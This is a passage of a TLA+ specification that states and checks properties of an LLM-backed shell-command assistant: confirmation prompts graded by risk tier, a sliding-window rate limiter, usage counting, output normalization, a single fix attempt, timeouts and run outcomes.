    /\ auto_run /\ ~confirm_risky
    /\ FirstExec # {}

\* C3: a generated command that is not Dangerous but Risky, with confirm_risky
\* true, is executed only after the user answered y to the y/n prompt, for
\* either value of auto_run; any other answer ends the run as cancelled with
\* the command never executed.
C3_RiskyNeedsY ==
    (command # "" /\ ~IsDangerous[command] /\ IsRisky[command] /\ confirm_risky) =>
        /\ \A i \in FirstExec :
              \E j \in 1..(i - 1) :
                  /\ trace[j].ev = "prompt"
                  /\ trace[j].arg = "risky_yn"
                  /\ AnsweredY(trace[j].text)
        /\ \A j \in GatePrompts : ~AnsweredY(trace[j].text) => EndedCancelled

\* a Risky command was executed under auto_run, after a y
C3_Witness ==
    /\ ~IsDangerous[command] /\ IsRisky[command] /\ confirm_risky
    /\ auto_run
    /\ FirstExec # {}

\* C4: for a generated command that is neither Dangerous nor (Risky with
\* confirm_risky): without auto_run it is executed only after the user
\* answered y to a y/n prompt; with auto_run it goes to execution with no
\* prompt at all.
C4_AutoRunGate ==
    (command # "" /\ ~IsDangerous[command] /\ ~(IsRisky[command] /\ confirm_risky)) =>
        IF auto_run
        THEN /\ GatePrompts = {}
             /\ pc # "AwaitingConfirmation"
             /\ gate \in {"", "none"}
             /\ gate = "none" => (pc = "Executing" \/ FirstExec # {})
        ELSE /\ \A i \in FirstExec :
                   \E j \in 1..(i - 1) :
                       /\ trace[j].ev = "prompt"
                       /\ trace[j].arg = "autorun_yn"
                       /\ AnsweredY(trace[j].text)
             /\ gate # "none"

\* a Risky command was executed without any prompt: auto_run, confirm_risky off
C4_Witness ==
    /\ ~IsDangerous[command] /\ IsRisky[command] /\ ~confirm_risky
    /\ auto_run
    /\ FirstExec # {}
    /\ Idx("prompt") = {}

\* the limiter is not admissible now: max_calls or more of its records are
\* younger than the window
NotAdmissible ==
    Cardinality({i \in DOMAIN calls : calls[i] > now - WindowTicks(window_minutes)})
        >= max_calls

\* the trace tr holds no prompt and no execution
NoPromptNoExec(tr) == \A i \in DOMAIN tr : tr[i].ev \notin {"prompt", "execute"}

\* C5: when the limiter is not admissible at primary generation, the step of
\* _generate_command makes no backend call, appends no limiter record, leaves
\* the usage counters alone and returns at once, the wait reported; the run
\* is then over, without a prompt and without an execution.
C5_RefusedGeneration ==
    [][(pc = "Generating" /\ NotAdmissible /\ pc' # "Generating") =>
          /\ pc' = "Done"
          /\ outcome' = "rate_limited"
          /\ now' = now
          /\ usage' = usage
          /\ history' = history
          /\ Len(calls') <= Len(calls)
          /\ ret'.op = "time_until_next_call"
          /\ trace' = Append(trace, Event("can_make_call", "generate", "", FALSE))
          /\ NoPromptNoExec(trace')]_vars

\* primary generation was refused by the limiter
C5_Witness ==
    /\ pc = "Done"
    /\ outcome = "rate_limited"
    /\ trace # <<>>
    /\ trace[Len(trace)] = Event("can_make_call", "generate", "", FALSE)

\* C6: a fix is attempted only if the first execution failed and auto_fix is
\* true, and at most once; the Executor runs at most twice; the second
\* execution, failed or not, is the last thing the run does.
C6_OneFixAttempt ==
    /\ \A i \in Idx("fix_attempt") :
          /\ auto_fix
          /\ \E j \in 1..(i - 1) :
                trace[j].ev = "execute" /\ trace[j].arg = "first" /\ ~trace[j].ok
    /\ Cardinality(Idx("fix_attempt")) <= 1
    /\ Cardinality(Idx("execute")) <= 2
    /\ \A i \in SecondExec : i = Len(trace) /\ pc = "Done"

\* the second execution failed too
C6_Witness ==
    /\ \E i \in SecondExec : ~trace[i].ok
    /\ outcome = "failed"

\* C7: the command proposed by the fix attempt is executed only right after
\* the user answered y to its y/n prompt, whatever its risk tier and the
\* policy; any other answer ends the run without a second execution.
C7_FixNeedsY ==
    /\ \A i \in SecondExec :
          /\ i > 1
          /\ trace[i - 1].ev = "prompt"
          /\ trace[i - 1].arg = "fix_yn"
          /\ AnsweredY(trace[i - 1].text)
    /\ \A j \in Idx("prompt") :
          (trace[j].arg = "fix_yn" /\ ~AnsweredY(trace[j].text)) =>
              /\ j = Len(trace)
              /\ pc = "Done"
              /\ SecondExec = {}

\* a Dangerous fix was executed after a y, under auto_run
C7_Witness ==
    /\ SecondExec # {}
    /\ IsDangerous[fixed_command]
    /\ auto_run

\* C8: at every instant, time_until_next_call() returns 0 if and only if
\* can_make_call() returns True.
C8_ZeroIffAdmissible ==
    (time_until_next_call(calls, max_calls, window_minutes, now, now).result = 0)
        <=> can_make_call(calls, max_calls, window_minutes, now).result

RECURSIVE EntryPattern(_)
EntryPattern(entry) ==
    IF \E i \in 1..(Len(entry) - 1) : SubSeq(entry, i, i + 1) = ".*"
    THEN LET i == CHOOSE k \in 1..(Len(entry) - 1) :
                      /\ SubSeq(entry, k, k + 1) = ".*"
                      /\ \A m \in 1..(k - 1) : SubSeq(entry, m, m + 1) # ".*"
         IN  (IF i > 1 THEN <<Lit(SubSeq(entry, 1, i - 1))>> ELSE <<>>)
             \o <<ANY>> \o EntryPattern(SubSeq(entry, i + 2, Len(entry)))
    ELSE IF entry = "" THEN <<>> ELSE <<Lit(entry)>>

\* cmd matches some entry of the dangerous list, read that way
MatchesDangerousEntry ==
    [cmd \in Commands |->
        \E d \in DOMAIN dangerous_commands :
            ReSearch(EntryPattern(dangerous_commands[d]), cmd)]

\* C10: a command is classified Dangerous whenever it matches an entry of the
\* dangerous list, a literal entry as a case-insensitive substring and an
\* entry with wildcards as a regular expression.
C10_DangerousRecognised ==
    gate # "" => (MatchesDangerousEntry[command] => gate = "typed_yes")

\* every text a backend event of the trace can carry
RawTexts == GenerateTexts \cup OtherFixTexts \cup HandshakeTexts \cup Commands

\* Normalize and FixResult, evaluated once for every such text
NormalizeOf == [t \in RawTexts |-> Normalize(t)]
FixResultOf == [t \in RawTexts |-> FixResult(t)]

\* positions of the trace at which the backend was called from the given site
Backend(site) == {i \in Idx("backend") : trace[i].arg = site}

\* C11: normalization is idempotent: for every raw response of the backend,
\* normalizing the command that _generate_command extracted from it returns
\* that command unchanged.
C11_NormalizeIdempotent ==
    \A i \in Backend("generate") :
        (trace[i].ok /\ trace[i].text # "") =>
            Normalize(NormalizeOf[trace[i].text]) = NormalizeOf[trace[i].text]

\* C12: the usage counters, total and today's, count exactly the backend
\* calls that returned; a refused request and a backend call that raised
\* leave them alone; every backend call, also one that raised, was preceded
\* by the appending of a limiter record.
C12_UsageCounters ==
    /\ usage.total_calls = Cardinality({i \in Idx("backend") : trace[i].ok})
    /\ usage.today = Cardinality({i \in Idx("backend") : trace[i].ok})
    /\ Cardinality(Idx("usage")) = usage.total_calls
    /\ Len(history) = Cardinality(Idx("backend"))
    /\ \A i \in Idx("backend") : i > 1 /\ trace[i - 1].ev = "record_call"
    /\ \A i \in Idx("can_make_call") :
          ~trace[i].ok => (i = Len(trace) /\ pc = "Done")

\* a backend call raised, another returned, and a request was refused
C12_Witness ==
    /\ \E i \in Idx("backend") : ~trace[i].ok
    /\ usage.total_calls >= 1
    /\ Len(history) > usage.total_calls
    /\ \E i \in Idx("can_make_call") : ~trace[i].ok

\* the backend call of primary generation at position i of the trace errored:
\* it raised, returned no text, or returned a text that normalizes to nothing
GenerationErrored(i) ==
    \/ ~trace[i].ok
    \/ trace[i].text = ""
    \/ NormalizeOf[trace[i].text] = ""

\* C13: when primary generation errors, the run ends as a generation failure
\* without classification, prompt, execution or fix attempt; and no execution
\* ever receives the empty string.
C13_GenerationFailure ==
    /\ \A i \in Backend("generate") :
          GenerationErrored(i) =>
              /\ pc = "Done"
              /\ outcome = "generation_failure"
              /\ gate = ""
              /\ Idx("prompt") = {}
              /\ Idx("execute") = {}
              /\ Idx("fix_attempt") = {}
    /\ \A i \in Idx("execute") : trace[i].text # ""

\* the backend returned a lone code fence, which normalizes to nothing
C13_Witness ==
    /\ outcome = "generation_failure"
    /\ \E i \in Backend("generate") : trace[i].ok /\ trace[i].text = "^^^"

\* C14: when the limiter is not admissible at the fix attempt, the step of
\* _attempt_fix_command makes no backend call, appends no limiter record,
\* leaves the usage counters alone and yields no fix; the run is then over
\* as failed, without a second execution.
C14_RefusedFix ==
    [][(pc = "Failed" /\ gemini_model /\ NotAdmissible /\ pc' # "Failed") =>
          /\ pc' = "Done"
          /\ outcome' = "failed"
          /\ now' = now
          /\ usage' = usage
          /\ history' = history
          /\ Len(calls') <= Len(calls)
          /\ fixed_command' = ""
          /\ trace' = trace \o <<Event("fix_attempt", stderr, command, TRUE),
                                 Event("can_make_call", "fix", "", FALSE)>>
          /\ \A i \in DOMAIN trace' : trace'[i].arg # "second"]_vars

\* the fix attempt was refused by the limiter
C14_Witness ==
    /\ pc = "Done"
    /\ outcome = "failed"
    /\ trace # <<>>
    /\ trace[Len(trace)] = Event("can_make_call", "fix", "", FALSE)

\* C15: a fix proposal identical to the command that failed is no fix: it is
\* not presented for confirmation and not executed, and the run ends as failed.
C15_IdenticalFix ==
    \A i \in Backend("fix") :
        (trace[i].ok /\ FixResultOf[trace[i].text] = command) =>
            /\ pc = "Done"
            /\ outcome = "failed"
            /\ \A j \in Idx("prompt") : trace[j].arg # "fix_yn"
            /\ SecondExec = {}

\* the backend proposed the failed command again
C15_Witness ==
    /\ outcome = "failed"
    /\ \E i \in Backend("fix") : trace[i].ok /\ trace[i].text = command

\* C16: the fix attempt calls the backend once, and the command it returns
\* for a raw response is the command _generate_command extracts from that
\* same response.
C16_FixNormalized ==
    /\ Cardinality(Backend("fix")) <= 1
    /\ \A i \in Backend("fix") :
          trace[i].ok => fixed_command = NormalizeOf[trace[i].text]

\* the ways a run of handle_gpt_command ends
Outcomes == {"success", "cancelled", "failed", "generation_failure", "rate_limited"}

\* C17: when every backend call, prompt and execution returns, a run of
\* handle_gpt_command reaches its end; it ends in exactly one of the five
\* outcomes, which it has only at its end; and after its end nothing more
\* happens: no backend call, no prompt, no execution.
C17_Terminates ==
    /\ <>(pc = "Done")
    /\ [](pc = "Done" <=> outcome \in Outcomes)
    /\ [](pc # "Done" => outcome = "none")
    /\ [][pc = "Done" => UNCHANGED <<pc, outcome, trace, usage, history, calls>>]_vars

\* a run that went through every stage: the fixed command succeeded
C17_Witness ==
    /\ pc = "Done"
    /\ outcome = "success"
    /\ SecondExec # {}

\* every backend call of the run returned what it was asked for: the
\* handshake an OK, primary generation a text that holds a command
BackendObliged ==
    \A i \in Idx("backend") :
        /\ trace[i].ok
        /\ trace[i].arg = "handshake" => Contains(trace[i].text, "OK")
        /\ trace[i].arg = "generate" => NormalizeOf[trace[i].text] # ""

\* C18: with max_calls = 1 and window_minutes = 1, the first generation
\* request made of a fresh assistant, within the second of its construction,
\* reaches the backend with its prompt and yields a command.  (The claim goes
\* on to a second request in that second, refused with a wait of about 60
\* seconds; it is the first request that is examined here.)
C18_FirstRequestGenerates ==
    (/\ max_calls = 1
     /\ window_minutes = 1
     /\ now < TicksPerSecond
     /\ pc = "Done"
     /\ Backend("handshake") # {}
     /\ BackendObliged) =>
        /\ Backend("generate") # {}
        /\ command # ""
        /\ outcome # "rate_limited"

\* a tick count in seconds, rounded up
CeilSeconds(t) == IF t >= 0 THEN (t + TicksPerSecond - 1) \div TicksPerSecond
                            ELSE 0 - ((0 - t) \div TicksPerSecond)

\* C19: when the limiter is not admissible, time_until_next_call() returns
\* the time until the earliest record leaves the window, in seconds rounded
\* up, and never a negative number, also when the clock advances by d
\* between the admissibility check and the final reading of the clock.
C19_CeilNonNegative ==
    \A d \in {0, 1, TicksPerSecond, TicksPerSecond + 1} :
        LET c == can_make_call(calls, max_calls, window_minutes, now)
            r == time_until_next_call(calls, max_calls, window_minutes, now, now + d)
            left == MinOf(c.calls) + WindowTicks(window_minutes) - (now + d)
        IN  ~c.result =>
                /\ r.result = (IF left > 0 THEN CeilSeconds(left) ELSE 0)
                /\ r.result >= 0

\* C20: can_make_call() removes exactly the records older than
\* now - window_minutes, a record of that very age being kept and counted,
\* and returns true iff fewer than max_calls records are kept; after it, and
\* after time_until_next_call(), every record left lies within
\* window_minutes of now; with no record, can_make_call() is true and
\* time_until_next_call() is 0.
C20_PruneAndCount ==
    LET c == can_make_call(calls, max_calls, window_minutes, now)
        r == time_until_next_call(calls, max_calls, window_minutes, now, now)
        cutoff == now - WindowTicks(window_minutes)
    IN  /\ c.calls = SelectSeq(calls, LAMBDA call_time : call_time >= cutoff)
        /\ c.result <=> Len(c.calls) < max_calls
        /\ \A i \in DOMAIN c.calls : now - c.calls[i] <= WindowTicks(window_minutes)
        /\ \A i \in DOMAIN r.calls : now - r.calls[i] <= WindowTicks(window_minutes)
        /\ calls = <<>> => (c.result /\ r.result = 0)

\* a is b with some of its elements left out, the others in their order
RECURSIVE IsSubSeq(_, _)
IsSubSeq(a, b) ==
    IF a = <<>> THEN TRUE
    ELSE IF b = <<>> THEN FALSE
    ELSE IF Head(a) = Head(b) THEN IsSubSeq(Tail(a), Tail(b))
    ELSE IsSubSeq(a, Tail(b))

\* the elements of b that a left out are all stale at time t
OnlyStaleRemoved(a, b, t) ==
    \A i \in DOMAIN b :
        b[i] > t - WindowTicks(window_minutes) =>
            Cardinality({j \in DOMAIN a : a[j] = b[i]})
                = Cardinality({j \in DOMAIN b : b[j] = b[i]})

\* C21: can_make_call() and time_until_next_call() add no record and leave
\* max_calls and window_minutes alone, their only effect being the removal of
\* stale records; record_call() appends one record stamped with the current
\* time and leaves every other record as it was.
C21_LimiterFrame ==
    /\ [](LET c == can_make_call(calls, max_calls, window_minutes, now)
              r == time_until_next_call(calls, max_calls, window_minutes, now, now)
              a == record_call(calls, now)
          IN  /\ IsSubSeq(c.calls, calls) /\ OnlyStaleRemoved(c.calls, calls, now)
              /\ IsSubSeq(r.calls, calls) /\ OnlyStaleRemoved(r.calls, calls, now)
              /\ Len(a) = Len(calls) + 1
              /\ a[Len(a)] = now
              /\ SubSeq(a, 1, Len(calls)) = calls)
    /\ [][/\ max_calls' = max_calls
          /\ window_minutes' = window_minutes
          /\ history' # history =>
                (calls' = Append(calls, now) /\ history' = Append(history, now))
          /\ history' = history => IsSubSeq(calls', calls)]_vars

\* a stale record was removed, and a record was appended after it
C21_Witness ==
    /\ ret.op = "record_call"
    /\ Len(history) > Len(calls)
    /\ Len(calls) >= 1

\* C22: at every call site the backend is invoked right after one
\* record_call(), itself right after a can_make_call() that returned true;
\* no record_call() comes without that, and no backend invocation without
\* its record: the limiter holds a record for every backend call still in
\* the window.
C22_RecordBeforeBackend ==
    /\ \A i \in DOMAIN trace :
          /\ trace[i].ev = "backend" =>
                /\ i > 2
                /\ trace[i - 1].ev = "record_call"
                /\ trace[i - 1].arg = trace[i].arg
                /\ trace[i - 2].ev = "can_make_call"
                /\ trace[i - 2].arg = trace[i].arg
                /\ trace[i - 2].ok
          /\ trace[i].ev = "record_call" =>
                /\ i > 1 /\ i < Len(trace)
                /\ trace[i - 1].ev = "can_make_call"
                /\ trace[i - 1].arg = trace[i].arg
                /\ trace[i - 1].ok
                /\ trace[i + 1].ev = "backend"
                /\ trace[i + 1].arg = trace[i].arg
    /\ Len(history) = Cardinality(Idx("backend"))
    /\ Cardinality({i \in DOMAIN calls : calls[i] > now - WindowTicks(window_minutes)})
          = InWindow(now)

\* the backend was called from all three sites
C22_Witness ==
    /\ Backend("handshake") # {}
    /\ Backend("generate") # {}
    /\ Backend("fix") # {}

\* the error texts _execute_command can return with a failure
FailureTexts == {_execute_command(r).stderr : r \in {q \in ProcessResults : ~_execute_command(q).success}}

\* _execute_command returns failure, no output and the timeout text for every
\* execution that timed out
TimeoutReported ==
    \A r \in ProcessResults :
        r.kind = "timeout" =>
            _execute_command(r) = [success |-> FALSE, stdout |-> "",
                                   stderr |-> "Command timed out after 30 seconds"]

\* C23: an execution that times out returns failure, no output and the text
\* "Command timed out after 30 seconds", and the command is not run again by
\* the Executor; whenever the first execution fails with auto_fix true, the
\* fix attempt comes next, with the failed command and the error text of
\* that execution.
C23_TimeoutThenFix ==
    /\ TimeoutReported
    /\ Cardinality(FirstExec) <= 1
    /\ \A i \in FirstExec :
          (~trace[i].ok /\ auto_fix) =>
              /\ IF i = Len(trace)
                 THEN pc = "Failed" /\ stderr \in FailureTexts
                 ELSE /\ trace[i + 1].ev = "fix_attempt"
                      /\ trace[i + 1].text = trace[i].text
                      /\ trace[i + 1].arg \in FailureTexts
                      /\ SecondExec = {} => trace[i + 1].arg = stderr
    /\ \A i \in Idx("fix_attempt") :
          i > 1 /\ trace[i - 1].ev = "execute" /\ ~trace[i - 1].ok

\* a fix was attempted for a command that timed out
C23_Witness ==
    \E i \in Idx("fix_attempt") :
        /\ trace[i].arg = "Command timed out after 30 seconds"
        /\ trace[i].text = command

\* C24: when the backend raises during the fix attempt, no fix is returned
\* and nothing else happens: no second prompt, no second execution, and the
\* run ends as the failure of the generated command.
C24_FixErrorSwallowed ==
    \A i \in Backend("fix") :
        ~trace[i].ok =>
            /\ i = Len(trace)
            /\ pc = "Done"
            /\ outcome = "failed"
            /\ fixed_command = ""
            /\ \A j \in Idx("prompt") : trace[j].arg # "fix_yn"
            /\ SecondExec = {}

\* the backend raised during the fix attempt
C24_Witness ==
    /\ pc = "Done"
    /\ \E i \in Backend("fix") : ~trace[i].ok

\* C25: every command handed to the Executor that is Dangerous, the generated
\* one or the one the fix attempt proposed, was preceded in its run by a
\* typed yes; a plain y never gets a Dangerous command executed.
C25_DangerousAlwaysTypedYes ==
    \A i \in Idx("execute") :
        IsDangerous[trace[i].text] =>
            \E j \in 1..(i - 1) :
                /\ trace[j].ev = "prompt"
                /\ trace[j].arg = "typed_yes"
                /\ TypedYes(trace[j].text)
====
